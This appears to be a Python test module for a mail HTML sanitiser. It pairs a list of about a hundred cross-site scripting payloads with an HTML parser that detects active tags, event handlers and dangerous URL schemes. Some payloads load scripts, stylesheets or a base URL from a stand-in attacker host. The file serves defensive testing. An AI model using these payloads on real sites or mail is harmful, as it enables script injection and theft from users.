# ruff: noqa: SIM905 - as in sanitise.py
"""Attempts to get something active into a mail, and a reader of HTML that tells whether one got through."""

from __future__ import annotations

from html.parser import HTMLParser

ACTIVE_TAGS = frozenset(
    """
    script iframe object embed applet form input button select textarea base frame frameset svg
    math video audio source template portal dialog canvas noscript meta link style
    """.split()
)
OURS = frozenset({"meta", "style"})  # of the head that we write
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "file:", "blob:", "about:", "view-source:", "livescript:")

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "<script x='>' src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src='https://a.example/x.png' alt='\" onerror=\"alert(1)'>",
    '<img src="https://a.example/x.png" title=\'"><script>alert(1)</script>\'>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=data:text/html,<script>alert(1)</script>></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src=javascript:alert(1)>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)//></video>",
    "<audio src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='//evil.example' onclick=alert(1) style='position:fixed;top:0'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](https://a.example/y.png)',
    '![x](https://a.example/y.png"onerror=alert(1))',
    "![x](https://a.example/y.png 'a\" onload=\"alert(1)')",
    '[x](https://a.example/"onmouseover=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![endif]--><script>alert(1)</script>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss style=animation-name:x onanimationstart=alert(1)>x</xss>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp></xmp><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<button onclick=alert(1)>x</button>",
    "<area href=javascript:alert(1)>",
    "<map name=x><area href=javascript:alert(1)></map>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<portal src=javascript:alert(1)>",
    '<a href="https://a.example" data-kind=\'"><script>\'>x</a>',
    "<div class=card data-kind='x' data-url='javascript:alert(1)' data-title='\"><script>alert(1)</script>'>x</div>",
    "<p class=button><a href=javascript:alert(1)>x</a></p>",
    "<figure class=hero><img src=javascript:alert(1) alt=x></figure>",
    "<li id=fn1 onclick=alert(1)>x</li>",
    "<blockquote class=twitter-tweet onclick=alert(1)><script>alert(1)</script>x</blockquote>",
    "<iframe title='\"><script>alert(1)</script>' src='https://www.youtube.com/embed/abcdefghijk\"><script>'></iframe>",
    '<script src="https://gist.github.com/a/0f"></script><script>alert(1)</script>',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [ ] <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "\u202ejavascript:alert(1)",
    "\ue100BODY\ue100<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='mailto:a@b.example?subject=\"><script>'>x</a>",
    "<a href='https://a.example/\\\"onclick=alert(1)//'>x</a>",
)


class _Reader(HTMLParser):
    """Reads HTML as a browser would, well enough to see tags and attributes; looks into conditional comments too."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS - OURS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            plain = "".join(char for char in (value or "") if char > " ").lower()
            if name.startswith("on") or name in {
                "srcdoc",
                "formaction",
                "xlink:href",
                "background",
                "action",
            }:
                self.faults.append(f"{tag} {name}={value!r}")
            if name in {"href", "src", "poster", "data", "cite"} and plain.startswith(BAD_SCHEMES):
                self.faults.append(f"{tag} {name}={value!r}")
            if name == "style" and ("expression(" in plain or "url(" in plain or "position:" in plain):
                self.faults.append(f"{tag} {name}={value!r}")

    def handle_comment(self, data: str) -> None:
        inner = _Reader()
        inner.feed(data)
        self.faults += [f"in a comment: {fault}" for fault in inner.faults if "noscript" not in fault]


def active_parts(html: str) -> list[str]:
    """Give what would run, load or submit in `html`."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.faults
